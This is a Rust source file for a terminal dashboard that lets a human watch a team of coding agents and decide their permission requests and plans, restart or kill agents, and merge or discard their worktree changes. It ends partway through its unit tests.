//! `agent-team board`: the team at a glance in the terminal (ratatui over crossterm): agents
//! (with each worktree teammate's diffstat), the task board, pending approvals (permission
//! requests and submitted plans) and the last events, followed live; keys to decide requests
//! and plans, to restart, kill or jump to an agent, and to merge or discard a worktree
//! teammate's work.
//!
//! [`View`] is the screen's state and its key handling, pure and tested against ratatui's
//! test backend; [`board`] is the loop around it: it follows the event log on a thread,
//! refreshes the snapshot when something changed, draws only when needed and carries out
//! what a key asked for.

use crate::ctx::{Ctx, Reader};
use crate::output::ago;
use agent_team_protocol::*;
use anyhow::{Context, Result};
use ratatui::Frame;
use ratatui::crossterm::event::{self, Event as TermEvent, KeyCode, KeyEvent, KeyModifiers};
use ratatui::layout::{Constraint, Direction, Layout, Rect};
use ratatui::style::{Color, Modifier, Style};
use ratatui::text::{Line, Span};
use ratatui::widgets::{Block, Borders, Cell, List, ListItem, Paragraph, Row, Table, Wrap};
use std::collections::{BTreeMap, VecDeque};
use std::process::ExitCode;
use std::sync::mpsc;
use std::time::{Duration, Instant};

/// How many events the board keeps for its event pane.
const EVENTS_KEPT: usize = 200;

/// The colours agents get, in roster order.
const PALETTE: [Color; 6] = [
    Color::Cyan,
    Color::Green,
    Color::Yellow,
    Color::Magenta,
    Color::Blue,
    Color::LightRed,
];

/// Which list the arrow keys move in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Focus {
    /// The agents.
    Agents,
    /// The pending permission requests and submitted plans.
    Approvals,
}

/// What a typed reason or feedback is for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Target {
    /// Denying a permission request.
    Perm(u64),
    /// Rejecting a teammate's submitted plan.
    Plan(String),
}

/// One item of the approvals list: a permission request or a plan waiting for a decision.
#[derive(Debug, Clone, Copy)]
enum Pending<'a> {
    /// A permission request.
    Perm(&'a PermRequest),
    /// A teammate whose plan is submitted.
    Plan(&'a AgentInfo),
}

/// What a key asks the loop to do.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Action {
    /// Decide a permission request.
    Decide {
        /// The request.
        id: u64,
        /// Allow or deny.
        allow: bool,
        /// Make it a team rule.
        always: bool,
        /// Why (denials).
        reason: Option<String>,
    },
    /// Approve or reject a teammate's submitted plan.
    DecidePlan {
        /// The teammate.
        agent: String,
        /// Approve (full tools) or reject (stays read-only).
        approve: bool,
        /// What it should change (rejections).
        feedback: Option<String>,
    },
    /// Restart an agent.
    Restart(String),
    /// Kill an agent.
    Kill(String),
    /// Put the terminal on an agent's pane.
    Jump(String),
    /// Land a worktree teammate's work (merge into its base branch, or discard it).
    Finish {
        /// The teammate.
        agent: String,
        /// Merge or discard.
        action: FinishAction,
    },
    /// Leave the board.
    Quit,
}

/// The screen's state: the latest snapshot of the team and what the user selected.
#[derive(Debug)]
pub struct View {
    /// The team's name.
    pub team: String,
    /// Whether its daemon answers (else the stored state is shown).
    pub live: bool,
    /// The roster.
    pub agents: Vec<AgentInfo>,
    /// The board.
    pub tasks: Vec<Task>,
    /// Pending permission requests.
    pub perms: Vec<PermRequest>,
    /// The last events, oldest first.
    pub events: VecDeque<Envelope>,
    /// Where the arrows move.
    pub focus: Focus,
    /// The selected agent.
    pub agent_sel: usize,
    /// The selected item of the approvals list (requests first, then plans).
    pub perm_sel: usize,
    /// A denial's reason or a rejection's feedback being typed, and what for.
    pub reason: Option<(Target, String)>,
    /// Each worktree teammate's changes not landed yet, by name (agents without a worktree
    /// branch are not in it).
    pub work: BTreeMap<String, WorkDiff>,
    /// The teammate whose work `x` asked to discard, waiting for `y`.
    pub confirm: Option<String>,
    /// The last action's outcome or error, shown in the status line.
    pub status: String,
    /// Whether to use colour (not with `NO_COLOR`).
    pub colour: bool,
}

impl View {
    /// An empty board for `team`.
    pub fn new(team: &str, colour: bool) -> Self {
        View {
            team: team.to_string(),
            live: false,
            agents: vec![],
            tasks: vec![],
            perms: vec![],
            events: VecDeque::new(),
            focus: Focus::Agents,
            agent_sel: 0,
            perm_sel: 0,
            reason: None,
            work: BTreeMap::new(),
            confirm: None,
            status: String::new(),
            colour,
        }
    }

    /// Adds an event to the event pane.
    pub fn push_event(&mut self, env: Envelope) {
        self.events.push_back(env);
        while self.events.len() > EVENTS_KEPT {
            self.events.pop_front();
        }
    }

    /// Keeps the selections inside the lists after a refresh.
    fn clamp(&mut self) {
        self.agent_sel = self.agent_sel.min(self.agents.len().saturating_sub(1));
        self.perm_sel = self.perm_sel.min(self.pending().len().saturating_sub(1));
    }

    /// The approvals list: pending permission requests, then the submitted plans.
    fn pending(&self) -> Vec<Pending<'_>> {
        let plans = self.agents.iter().filter(|a| {
            a.plan
                .as_ref()
                .is_some_and(|p| p.state == PlanState::Submitted)
        });
        self.perms
            .iter()
            .map(Pending::Perm)
            .chain(plans.map(Pending::Plan))
            .collect()
    }

    fn selected_agent(&self) -> Option<&AgentInfo> {
        self.agents.get(self.agent_sel)
    }

    fn selected_pending(&self) -> Option<Pending<'_>> {
        self.pending().get(self.perm_sel).copied()
    }

    /// A key while a denial's reason is typed: Enter sends it, Esc drops it, others edit it.
    fn reason_key(&mut self, code: KeyCode) -> Option<Action> {
        let Some((target, text)) = &mut self.reason else {
            return None;
        };
        match code {
            KeyCode::Enter => {
                let text = text.trim().to_string();
                let text = (!text.is_empty()).then_some(text);
                let target = target.clone();
                self.reason = None;
                return Some(match target {
                    Target::Perm(id) => Action::Decide {
                        id,
                        allow: false,
                        always: false,
                        reason: text,
                    },
                    Target::Plan(agent) => Action::DecidePlan {
                        agent,
                        approve: false,
                        feedback: text,
                    },
                });
            }
            KeyCode::Esc => self.reason = None,
            KeyCode::Backspace => {
                text.pop();
            }
            KeyCode::Char(c) => text.push(c),
            _ => {}
        }
        None
    }

    /// What `key` does: moves the selection, or returns an action for the loop.
    pub fn key(&mut self, key: KeyEvent) -> Option<Action> {
        if self.reason.is_some() {
            return self.reason_key(key.code);
        }
        if key.modifiers.contains(KeyModifiers::CONTROL) && key.code == KeyCode::Char('c') {
            return Some(Action::Quit);
        }
        // Discarding cannot be undone: only `y` goes on, any other key keeps the work.
        if let Some(agent) = self.confirm.take() {
            if matches!(key.code, KeyCode::Char('y' | 'Y')) {
                return Some(Action::Finish {
                    agent,
                    action: FinishAction::Discard,
                });
            }
            self.status = format!("kept {agent}'s work");
            return None;
        }
        match key.code {
            KeyCode::Char('q') | KeyCode::Esc => Some(Action::Quit),
            KeyCode::Tab | KeyCode::BackTab => {
                self.focus = match self.focus {
                    Focus::Agents => Focus::Approvals,
                    Focus::Approvals => Focus::Agents,
                };
                None
            }
            KeyCode::Up | KeyCode::Char('K') => {
                match self.focus {
                    Focus::Agents => self.agent_sel = self.agent_sel.saturating_sub(1),
                    Focus::Approvals => self.perm_sel = self.perm_sel.saturating_sub(1),
                }
                None
            }
            KeyCode::Down | KeyCode::Char('J') => {
                match self.focus {
                    Focus::Agents => self.agent_sel += 1,
                    Focus::Approvals => self.perm_sel += 1,
                }
                self.clamp();
                None
            }
            // On a plan, `A` approves it as `a` does: a plan has no rule to remember.
            KeyCode::Char(c @ ('a' | 'A')) => self.selected_pending().map(|p| match p {
                Pending::Perm(p) => Action::Decide {
                    id: p.id,
                    allow: true,
                    always: c == 'A',
                    reason: None,
                },
                Pending::Plan(a) => Action::DecidePlan {
                    agent: a.name.clone(),
                    approve: true,
                    feedback: None,
                },
            }),
            KeyCode::Char('d') => {
                let target = self.selected_pending().map(|p| match p {
                    Pending::Perm(p) => Target::Perm(p.id),
                    Pending::Plan(a) => Target::Plan(a.name.clone()),
                });
                if let Some(target) = target {
                    self.reason = Some((target, String::new()));
                }
                None
            }
            KeyCode::Char('r') => self
                .selected_agent()
                .map(|a| Action::Restart(a.name.clone())),
            KeyCode::Char('k') => self.selected_agent().map(|a| Action::Kill(a.name.clone())),
            KeyCode::Enter => self.selected_agent().map(|a| Action::Jump(a.name.clone())),
            KeyCode::Char(c @ ('m' | 'x')) => self.finish_key(c == 'm'),
            _ => None,
        }
    }

    /// `m` (merge) or `x` (discard, after a `y`) on the selected agent's worktree work.
    fn finish_key(&mut self, merge: bool) -> Option<Action> {
        let name = self.selected_agent()?.name.clone();
        if !self.work.contains_key(&name) {
            self.status = format!(
                "{name} has no worktree work to {}",
                if merge { "merge" } else { "discard" }
            );
            return None;
        }
        if merge {
            return Some(Action::Finish {
                agent: name,
                action: FinishAction::Merge,
            });
        }
        self.confirm = Some(name);
        None
    }

    fn style(&self, colour: Color) -> Style {
        if self.colour {
            Style::default().fg(colour)
        } else {
            Style::default()
        }
    }

    /// The agent's own colour (from the roster); the palette by position for an agent
    /// without one or with one ratatui cannot draw.
    fn agent_colour(&self, name: &str) -> Color {
        let i = self.agents.iter().position(|a| a.name == name).unwrap_or(0);
        self.agents
            .get(i)
            .filter(|a| a.name == name)
            .and_then(|a| a.color.as_deref())
            .and_then(|c| {
                let c = c
                    .strip_prefix("bright")
                    .map_or_else(|| c.to_string(), |b| format!("light{b}"));
                c.parse::<Color>().ok()
            })
            .unwrap_or(PALETTE[i % PALETTE.len()])
    }

    fn status_colour(status: &str) -> Color {
        match status {
            "running" | "completed" => Color::Green,
            "idle" | "pending" | "waiting" => Color::Cyan,
            "starting" | "backoff" | "in_progress" | "unreachable" => Color::Yellow,
            _ => Color::Red,
        }
    }

    /// Draws the board; fits 80×24 and grows with the terminal.
    pub fn draw(&self, f: &mut Frame) {
        let area = f.area();
        // A long status (a merge's conflict names its files) wraps onto up to 3 lines.
        let title_rows = self
            .title_line()
            .width()
            .div_ceil(usize::from(area.width.max(1)))
            .clamp(1, 3) as u16;
        let rows = Layout::default()
            .direction(Direction::Vertical)
            .constraints([
                Constraint::Length(title_rows),
                Constraint::Min(6),
                Constraint::Min(5),
                Constraint::Min(4),
                Constraint::Length(1),
            ])
            .split(area);
        self.draw_title(f, rows[0]);
        let top = Layout::default()
            .direction(Direction::Horizontal)
            .constraints([Constraint::Percentage(58), Constraint::Percentage(42)])
            .split(rows[1]);
        self.draw_agents(f, top[0]);
        self.draw_perms(f, top[1]);
        self.draw_tasks(f, rows[2]);
        self.draw_events(f, rows[3]);
        self.draw_help(f, rows[4]);
    }

    fn draw_title(&self, f: &mut Frame, r: Rect) {
        f.render_widget(
            Paragraph::new(self.title_line()).wrap(Wrap { trim: false }),
            r,
        );
    }

    fn title_line(&self) -> Line<'_> {
        let state = if self.live {
            "live"
        } else {
            "not running (stored state)"
        };
        Line::from(vec![
            Span::styled(
                format!(" agent-team board · {} ", self.team),
                Style::default().add_modifier(Modifier::BOLD),
            ),
            Span::raw(format!("· {state} ")),
            Span::styled(text::printable(&self.status), self.style(Color::Yellow)),
        ])
    }

    fn block(&self, title: &str, focused: bool) -> Block<'static> {
        let b = Block::default()
            .borders(Borders::ALL)
            .title(title.to_string());
        if focused {
            b.border_style(self.style(Color::White).add_modifier(Modifier::BOLD))
        } else {
            b
        }
    }

    fn draw_agents(&self, f: &mut Frame, r: Rect) {
        // The WORK column only while some teammate has work to land; then, in a narrow
        // terminal, it goes before ACTIVE, COST and TOKENS (dropped in that order).
        let work_width = self
            .agents
            .iter()
            .filter_map(|a| self.work.get(&a.name))
            .map(|d| diffstat(d).chars().count().max(4) as u16)
            .max();
        let (tokens_on, cost_on, active_on) = match work_width {
            None => (true, true, true),
            Some(w) => {
                let mut left = r.width.saturating_sub(2);
                let mut fits = |need: u16| {
                    let need = need + 1;
                    let ok = left >= need;
                    if ok {
                        left -= need;
                    }
                    ok
                };
                fits(11 + 7 + 4 + w + 2);
                let tokens = fits(6);
                let cost = tokens && fits(7);
                let active = cost && fits(7);
                (tokens, cost, active)
            }
        };
        let rows = self.agents.iter().enumerate().map(|(i, a)| {
            let mut status = a.status.to_string();
            if a.is_planning() && a.status.is_live() {
                status = "planning".to_string();
            }
            // Where a member on another host runs.
            if let Some(h) = &a.host {
                status = format!("{status} @{}", text::printable(h));
            }
            // And in what container, with its caps.
            if let Some(c) = &a.container {
                status = format!(
                    "{status} [{} · {}]",
                    text::printable(&c.image),
                    text::printable(&c.limits())
                );
            }
            if let Some(e) = &a.error {
                status = format!("{status}: {}", text::printable(e));
            }
            let (tokens, cost) = match &a.usage {
                Some(u) => (short_count(u.tokens()), crate::cmd::usage::cost(u.cost_usd)),
                None => ("-".to_string(), "-".to_string()),
            };
            let mut cells = vec![
                Cell::from(text::printable(&a.name)).style(self.style(self.agent_colour(&a.name))),
                Cell::from(status).style(self.style(Self::status_colour(a.status.as_str()))),
                Cell::from(a.current_task.map(|t| t.to_string()).unwrap_or("-".into())),
            ];
            if work_width.is_some() {
                cells.push(
                    Cell::from(self.work.get(&a.name).map(diffstat).unwrap_or_default())
                        .style(self.style(Color::Yellow)),
                );
            }
            if tokens_on {
                cells.push(Cell::from(tokens));
            }
            if cost_on {
                cells.push(Cell::from(cost));
            }
            if active_on {
                cells.push(Cell::from(ago(a.last_activity)));
            }
            let mut row = Row::new(cells);
            if i == self.agent_sel && self.focus == Focus::Agents {
                row = row.style(Style::default().add_modifier(Modifier::REVERSED));
            }
            row
        });
        let mut widths = vec![
            Constraint::Length(11),
            Constraint::Min(7),
            Constraint::Length(4),
        ];
        let mut header = vec!["NAME", "STATUS", "TASK"];
        if let Some(w) = work_width {
            widths.push(Constraint::Length(w));
            header.push("WORK");
        }
        for (on, width, name) in [
            (tokens_on, 6, "TOKENS"),
            (cost_on, 7, "COST"),
            (active_on, 7, "ACTIVE"),
        ] {
            if on {
                widths.push(Constraint::Length(width));
                header.push(name);
            }
        }
        let table = Table::new(rows, widths)
            .header(Row::new(header).style(Style::default().add_modifier(Modifier::BOLD)))
            .block(self.block(
                &format!("Agents ({})", self.agents.len()),
                self.focus == Focus::Agents,
            ));
        f.render_widget(table, r);
    }

    fn draw_perms(&self, f: &mut Frame, r: Rect) {
        let pending = self.pending();
        let items: Vec<ListItem> = if pending.is_empty() {
            vec![ListItem::new("nothing waiting")]
        } else {
            pending
                .iter()
                .enumerate()
                .map(|(i, p)| {
                    let line = match p {
                        Pending::Perm(p) => {
                            // Whole, wrapped and inert, its length first: padding, a newline
                            // or a bidi override cannot hide what runs.
                            let head = format!("#{} ", p.id);
                            let agent = text::printable(&p.agent);
                            let input = text::printable(&p.input);
                            // Its length when long or when something in it is shown as a code.
                            let n = p.input.chars().count();
                            let len = if n > 60 || input != p.input {
                                format!(" ({n} chars)")
                            } else {
                                String::new()
                            };
                            let rest = format!(" {}{len}: {input}", text::printable(&p.tool));
                            let inner = usize::from(r.width.saturating_sub(2)).max(8);
                            let used = Line::from(format!("{head}{agent}")).width();
                            let mut lines = wrap_at(&rest, inner.saturating_sub(used), inner - 2);
                            let first = if lines.is_empty() {
                                String::new()
                            } else {
                                lines.remove(0)
                            };
                            let mut text = vec![Line::from(vec![
                                Span::raw(head),
                                Span::styled(agent, self.style(self.agent_colour(&p.agent))),
                                Span::raw(first),
                            ])];
                            text.extend(lines.into_iter().map(|l| Line::from(format!("  {l}"))));
                            ratatui::text::Text::from(text)
                        }
                        Pending::Plan(a) => {
                            let plan = a.plan.as_ref().and_then(|p| p.plan.as_deref());
                            Line::from(vec![
                                Span::raw("plan of "),
                                Span::styled(
                                    text::printable(&a.name),
                                    self.style(self.agent_colour(&a.name)),
                                ),
                                Span::raw(format!(": {}", text::printable(plan.unwrap_or("")))),
                            ])
                            .into()
                        }
                    };
                    let item = ListItem::new(line);
                    if i == self.perm_sel && self.focus == Focus::Approvals {
                        item.style(Style::default().add_modifier(Modifier::REVERSED))
                    } else {
                        item
                    }
                })
                .collect()
        };
        let title = format!("Approvals ({})", pending.len());
        f.render_widget(
            List::new(items).block(self.block(&title, self.focus == Focus::Approvals)),
            r,
        );
    }

    fn draw_tasks(&self, f: &mut Frame, r: Rect) {
        // Open work first, then the newest finished.
        let mut tasks: Vec<&Task> = self.tasks.iter().collect();
        tasks.sort_by_key(|t| (t.status.is_terminal(), std::cmp::Reverse(t.updated_at)));
        let rows = tasks.iter().map(|t| {
            Row::new(vec![
                Cell::from(t.id.to_string()),
                Cell::from(t.status.as_str())
                    .style(self.style(Self::status_colour(t.status.as_str()))),
                Cell::from(
                    t.owner
                        .as_deref()
                        .map_or_else(|| "-".into(), text::printable),
                ),
                Cell::from(if t.blocked_by.is_empty() {
                    "-".to_string()
                } else {
                    t.blocked_by
                        .iter()
                        .map(u64::to_string)
                        .collect::<Vec<_>>()
                        .join(",")
                }),
                Cell::from(text::printable(&t.title)),
            ])
        });
        let open = self
            .tasks
            .iter()
            .filter(|t| !t.status.is_terminal())
            .count();
        let table = Table::new(
            rows,
            [
                Constraint::Length(4),
                Constraint::Length(11),
                Constraint::Length(12),
                Constraint::Length(8),
                Constraint::Min(10),
            ],
        )
        .header(
            Row::new(vec!["ID", "STATUS", "OWNER", "BLOCKED", "TITLE"])
                .style(Style::default().add_modifier(Modifier::BOLD)),
        )
        .block(self.block(
            &format!("Tasks ({open} open, {} in all)", self.tasks.len()),
            false,
        ));
        f.render_widget(table, r);
    }

    fn draw_events(&self, f: &mut Frame, r: Rect) {
        let height = r.height.saturating_sub(2) as usize;
        let lines: Vec<Line> = self
            .events
            .iter()
            .rev()
            .take(height)
            .rev()
            .map(|e| {
                Line::from(vec![
                    Span::styled(
                        format!("{:<10} ", text::printable(&e.agent_id)),
                        self.style(self.agent_colour(&e.agent_id)),
                    ),
                    Span::raw(event_text(&e.event)),
                ])
            })
            .collect();
        f.render_widget(
            Paragraph::new(lines)
                .wrap(Wrap { trim: true })
                .block(self.block("Events", false)),
            r,
        );
    }

    fn draw_help(&self, f: &mut Frame, r: Rect) {
        if let Some(name) = &self.confirm {
            let branch = self
                .work
                .get(name)
                .map(|d| d.branch.clone())
                .unwrap_or_default();
            let text = format!(" discard {name}'s work (worktree and branch {branch})? y/N");
            f.render_widget(
                Paragraph::new(Span::styled(text, self.style(Color::Yellow))),
                r,
            );
            return;
        }
        let text = match &self.reason {
            Some((Target::Perm(id), text)) => {
                format!(" deny #{id}, reason (Enter sends, Esc cancels): {text}_")
            }
            Some((Target::Plan(name), text)) => {
                format!(" reject {name}'s plan, feedback (Enter sends, Esc cancels): {text}_")
            }
            None => HELP.to_string(),
        };
        f.render_widget(Paragraph::new(text), r);
    }
}

/// `s` cut into lines of at most `first` columns, then `rest` columns (at least one
/// character a line, so a wide character in a narrow pane still moves on).
fn wrap_at(s: &str, first: usize, rest: usize) -> Vec<String> {
    let mut out = Vec::new();
    let mut line = String::new();
    let mut width = 0;
    for c in s.chars() {
        let w = Span::raw(c.to_string()).width();
        let max = if out.is_empty() { first } else { rest };
        if width + w > max && !line.is_empty() {
            out.push(std::mem::take(&mut line));
            width = 0;
        }
        line.push(c);
        width += w;
    }
    if !line.is_empty() || out.is_empty() {
        out.push(line);
    }
    out
}

/// The keys, in the bottom line.
const HELP: &str =
    "↑↓ Tab│a allow A always d deny│r restart k kill m merge x discard ⏎ pane│q quit";

/// A worktree teammate's changes in a few characters: `+12 -3 2 files`.
fn diffstat(d: &WorkDiff) -> String {
    let n = d.files.len();
    format!(
        "+{} -{} {n} file{}",
        d.added,
        d.removed,
        if n == 1 { "" } else { "s" }
    )
}

/// What a finish did, for the status line.
fn finished_text(o: &FinishOutcome) -> String {
    let made = match o.committed.len() {
        0 => String::new(),
        n => format!(
            " ({n} commit{} made of its uncommitted changes)",
            if n == 1 { "" } else { "s" }
        ),
    };
    match o.action {
        FinishAction::Merge => format!(
            "merged {} into {}{}{}{made}",
            o.branch,
            o.into.as_deref().unwrap_or("its base"),
            o.head
                .as_deref()
                .map(|h| format!(" at {}", h.chars().take(10).collect::<String>()))
                .unwrap_or_default(),
            if o.fast_forward {
                " (fast-forward)"
            } else {
                ""
            },
        ),
        FinishAction::Pr => format!(
            "pushed {}{made}: {}",
            o.branch,
            o.pr_url
                .as_deref()
                .or(o.pr_hint.as_deref())
                .unwrap_or("open the pull request")
        ),
        FinishAction::Discard => format!("discarded {}", o.branch),
    }
}

/// A token count in at most 6 characters (`950`, `12.3k`, `4.1M`).
fn short_count(n: u64) -> String {
    match n {
        0..1_000 => n.to_string(),
        1_000..1_000_000 => format!("{:.1}k", n as f64 / 1e3),
        _ => format!("{:.1}M", n as f64 / 1e6),
    }
}

/// One line for an event in the event pane, inert ([`text::printable`]: what an agent wrote
/// cannot move the cursor, clear the board or hide part of itself).
fn event_text(ev: &Event) -> String {
    text::printable(&event_line(ev))
}

/// [`event_text`] before it is made inert.
fn event_line(ev: &Event) -> String {
    let one_line = |s: &str| s.to_string();
    match ev {
        Event::TextMessageContent { delta } => one_line(delta),
        Event::ToolCallStart { tool_name, .. } => format!("→ {tool_name}"),
        Event::ToolCallResult {
            is_error, content, ..
        } => {
            format!(
                "{} {}",
                if *is_error { "✗" } else { "✓" },
                one_line(content)
            )
        }
        Event::AgentStatus { status, detail, .. } => match detail {
            Some(d) => format!("{status} ({d})"),
            None => status.to_string(),
        },
        Event::TaskUpdated { task } => {
            format!("task {} {} {}", task.id, task.status.as_str(), task.title)
        }
        Event::MessageSent {
            from, to, summary, ..
        } => {
            format!(
                "{from} → {to}{}",
                summary
                    .as_ref()
                    .map(|s| format!(": {s}"))
                    .unwrap_or_default()
            )
        }
        Event::PermissionRequested { request } => {
            format!(
                "asks #{} {} {}",
                request.id,
                request.tool,
                one_line(&request.input)
            )
        }
        Event::PermissionDecided { request } => format!("#{} {:?}", request.id, request.status),
        Event::PlanSubmitted { agent, plan } => {
            format!("{agent} submitted a plan: {}", one_line(plan))
        }
        Event::PlanDecided {
            agent,
            approved,
            feedback,
            by,
        } => format!(
            "plan of {agent} {} by {by}{}",
            if *approved { "approved" } else { "rejected" },
            feedback
                .as_deref()
                .map(|f| format!(": {}", one_line(f)))
                .unwrap_or_default()
        ),
        Event::RunStarted { goal } => format!("run started: {}", goal.as_deref().unwrap_or("")),
        Event::RunFinished { answer, success } => {
            format!(
                "run {}: {}",
                if *success { "finished" } else { "failed" },
                one_line(answer)
            )
        }
        Event::Error { message } => format!("error: {message}"),
        other => other.type_name().to_string(),
    }
}

/// Whether an event changes what the snapshot shows (text and tool calls do not).
fn changes_snapshot(ev: &Event) -> bool {
    !matches!(
        ev,
        Event::TextMessageContent { .. }
            | Event::ToolCallStart { .. }
            | Event::ToolCallResult { .. }
    )
}

/// Follows the team's events on a thread: each envelope goes to `tx`; a lost or missing
/// daemon is tried again every second (the board never starts one).
fn follow(ctx: Ctx, tx: mpsc::Sender<Envelope>) {
    std::thread::spawn(move || {
        let mut since = 0u64;
        // Start with the recent past, not the whole log.
        if let Ok(mut r) = ctx.reader_noting(false)
            && let Ok(events) = r.events(0)
        {
            since = events.last().map(|e| e.seq).unwrap_or(0);
            for e in events.into_iter().rev().take(EVENTS_KEPT).rev() {
                if tx.send(e).is_err() {
                    return;
                }
            }
        }
        loop {
            if let Ok(Some(mut c)) = ctx.connect_existing()
                && c.call(Request::Subscribe { since, types: None }).is_ok()
            {
                loop {
                    match c.next_push(None) {
                        Ok(Push::Event { envelope }) => {
                            since = envelope.seq;
                            if tx.send(*envelope).is_err() {
                                return;
                            }
                        }
                        Ok(_) => {}
                        Err(_) => break,
                    }
                }
            }
            std::thread::sleep(Duration::from_secs(1));
        }
    });
}

/// Whether an event may change a worktree teammate's diff (a task done, an agent that
/// stopped, work landed by anyone).
fn changes_work(ev: &Event) -> bool {
    matches!(
        ev,
        Event::FinishedWork { .. } | Event::TaskUpdated { .. } | Event::AgentStatus { .. }
    )
}

/// Reads the snapshot (the live daemon, else the stored state); with `work`, each agent's
/// worktree diff too (git work, so not at every refresh).
fn refresh(ctx: &Ctx, view: &mut View, work: bool) {
    match ctx.reader_noting(false) {
        Ok(mut r) => {
            view.live = matches!(r, Reader::Live(..));
            if let Ok(a) = r.agents() {
                view.agents = a;
            }
            if work {
                let mut diffs = BTreeMap::new();
                for a in &view.agents {
                    // A failed read keeps what was shown.
                    match r.work_diff(&a.name, false) {
                        Ok(Some(d)) => {
                            diffs.insert(a.name.clone(), d);
                        }
                        Ok(None) => {}
                        Err(_) => {
                            if let Some(d) = view.work.get(&a.name) {
                                diffs.insert(a.name.clone(), d.clone());
                            }
                        }
                    }
                }
                view.work = diffs;
            }
            if let Ok(t) = r.tasks(None) {
                view.tasks = t;
            }
            if let Ok(p) = r.perms(false) {
                view.perms = p;
            }
            view.clamp();
        }
        Err(e) => {
            view.live = false;
            view.status = crate::describe(&e);
        }
    }
}

/// Carries out an action; returns the status line to show.
fn act(ctx: &Ctx, action: &Action) -> String {
    if let Action::Finish { agent, action } = action {
        let req = Request::WorkFinish {
            agent: agent.clone(),
            action: *action,
            into: None,
            keep: false,
            accept_control_changes: false,
        };
        return match ctx.call(req) {
            Ok(Reply::WorkFinished { outcome }) => finished_text(&outcome),
            Ok(other) => format!("unexpected reply {other:?}"),
            Err(e) => crate::describe(&e),
        };
    }
    let req = match action {
        Action::Decide {
            id,
            allow,
            always,
            reason,
        } => Request::PermDecide {
            id: *id,
            allow: *allow,
            always: *always,
            pattern: None,
            reason: reason.clone(),
        },
        Action::DecidePlan {
            agent,
            approve,
            feedback,
        } => Request::PlanDecide {
            agent: agent.clone(),
            approve: *approve,
            feedback: feedback.clone(),
        },
        Action::Restart(name) => Request::Restart { name: name.clone() },
        Action::Kill(name) => Request::Kill {
            name: name.clone(),
            reason: None,
        },
        Action::Jump(_) | Action::Quit | Action::Finish { .. } => return String::new(),
    };
    match ctx.call(req) {
        Ok(_) => match action {
            Action::Decide {
                id,
                allow: true,
                always,
                ..
            } => {
                format!("allowed #{id}{}", if *always { " always" } else { "" })
            }
            Action::Decide { id, .. } => format!("denied #{id}"),
            Action::DecidePlan {
                agent,
                approve: true,
                ..
            } => format!("approved {agent}'s plan"),
            Action::DecidePlan { agent, .. } => format!("rejected {agent}'s plan"),
            Action::Restart(n) => format!("restarting {n}"),
            Action::Kill(n) => format!("killed {n}"),
            _ => String::new(),
        },
        Err(e) => crate::describe(&e),
    }
}

/// `agent-team board`
pub fn board(ctx: &Ctx) -> Result<ExitCode> {
    if !nix::unistd::isatty(std::io::stdout()).unwrap_or(false) {
        anyhow::bail!(crate::Hinted::new(
            "the board needs a terminal",
            "run it in a terminal, or use `agent-team ps` / `agent-team events --follow` in scripts"
        ));
    }
    let colour = std::env::var_os("NO_COLOR").is_none_or(|v| v.is_empty());
    let mut view = View::new(&ctx.team, colour);
    refresh(ctx, &mut view, true);
    let (tx, rx) = mpsc::channel();
    follow(
        Ctx {
            paths: ctx.paths.clone(),
            team: ctx.team.clone(),
            tp: ctx.tp.clone(),
            file: ctx.file.clone(),
        },
        tx,
    );
    let mut terminal = ratatui::init();
    let outcome = run_loop(ctx, &mut terminal, &mut view, &rx);
    ratatui::restore();
    outcome?;
    Ok(ExitCode::SUCCESS)
}

fn run_loop(
    ctx: &Ctx,
    terminal: &mut ratatui::DefaultTerminal,
    view: &mut View,
    rx: &mpsc::Receiver<Envelope>,
) -> Result<()> {
    let mut dirty = true;
    let mut stale = false;
    let mut work_stale = false;
    let mut last_refresh = Instant::now();
    loop {
        while let Ok(env) = rx.try_recv() {
            stale |= changes_snapshot(&env.event);
            work_stale |= changes_work(&env.event);
            view.push_event(env);
            dirty = true;
        }
        // At most 10 snapshots a second however busy the team; every 5 s anyway (a daemon
        // that came up or went away, the "ago" column).
        if (stale && last_refresh.elapsed() >= Duration::from_millis(100))
            || last_refresh.elapsed() >= Duration::from_secs(5)
        {
            let tick = last_refresh.elapsed() >= Duration::from_secs(5);
            refresh(ctx, view, work_stale || tick);
            stale = false;
            work_stale = false;
            last_refresh = Instant::now();
            dirty = true;
        }
        if dirty {
            terminal
                .draw(|f| view.draw(f))
                .context("cannot draw the board")?;
            dirty = false;
        }
        // Keys are answered at once; the wait only bounds how late an event is drawn.
        if !event::poll(Duration::from_millis(150)).context("cannot read the terminal")? {
            continue;
        }
        match event::read().context("cannot read the terminal")? {
            TermEvent::Key(k) if k.kind == event::KeyEventKind::Press => {
                dirty = true;
                match view.key(k) {
                    Some(Action::Quit) => return Ok(()),
                    Some(Action::Jump(name)) => {
                        view.status = jump(ctx, terminal, &name);
                    }
                    Some(a) => {
                        view.status = act(ctx, &a);
                        refresh(ctx, view, matches!(a, Action::Finish { .. }));
                        last_refresh = Instant::now();
                    }
                    None => {}
                }
            }
            TermEvent::Resize(..) => dirty = true,
            _ => {}
        }
    }
}

/// Puts the terminal on an agent's pane: inside the team's tmux that is a switch; outside,
/// the board steps aside while tmux is attached and comes back after.
fn jump(ctx: &Ctx, terminal: &mut ratatui::DefaultTerminal, name: &str) -> String {
    let mut cmd = match crate::cmd::agents::attach_command(
        ctx,
        name,
        agent_team_pane::tmux::AttachView::Zoomed,
    ) {
        Ok(c) => c,
        Err(e) => return crate::describe(&e),
    };
    ratatui::restore();
    let st = cmd.status();
    *terminal = ratatui::init();
    let _ = terminal.clear();
    match st {
        Ok(s) if s.success() => format!("on {name}'s pane"),
        Ok(s) => format!("tmux: {s}"),
        Err(e) => format!("cannot run tmux: {e}"),
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;
    use ratatui::Terminal;
    use ratatui::backend::TestBackend;

    fn sample() -> View {
        let mut v = View::new("demo", false);
        v.live = true;
        let now = Timestamp::from(std::time::SystemTime::now());
        for (name, status) in [
            ("leader", AgentStatus::Running),
            ("builder-1", AgentStatus::Waiting),
        ] {
            let mut a = AgentInfo::new(name, "worker", "tmux", 1, now);
            a.status = status;
            v.agents.push(a);
        }
        v.agents[1].current_task = Some(3);
        v.agents[1].usage = Some(UsageFigures {
            input_tokens: 12_000,
            output_tokens: 345,
            cached_tokens: 0,
            requests: 3,
            cost_usd: Some(0.0413),
        });
        v.tasks.push(Task {
            id: 3,
            key: None,
            title: "Publish the report".into(),
            description: String::new(),
